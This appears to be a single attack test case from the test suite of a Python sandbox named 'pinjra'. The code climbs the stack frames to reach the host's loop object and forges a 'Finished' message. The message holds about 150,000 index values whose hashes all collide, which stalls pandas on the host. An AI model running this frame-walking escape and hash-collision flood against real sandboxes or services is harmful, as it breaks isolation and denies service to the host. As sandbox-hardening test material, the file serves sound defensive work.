# attack: jail/forged-tables
# oracle: runaway
# imports: sys, pinjra
# tools:
# source: own
# note: an answer that was never encoded: index levels whose hashes are all equal keep pandas in the host busy for hours
import sys

from pinjra.wire.messages import Finished

frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "_checkpoint"):
    frame = frame.f_back
loop = frame.f_locals["self"]
prime = (1 << 61) - 1
rows = [["t", ["i", f"{k * prime:x}"]] for k in range(16, 150_000)]
loop._channel.send(
    Finished(run=loop._channel.run, value=["ix", ["multi", ["l", *rows], ["l", None]]], blobs=())
)
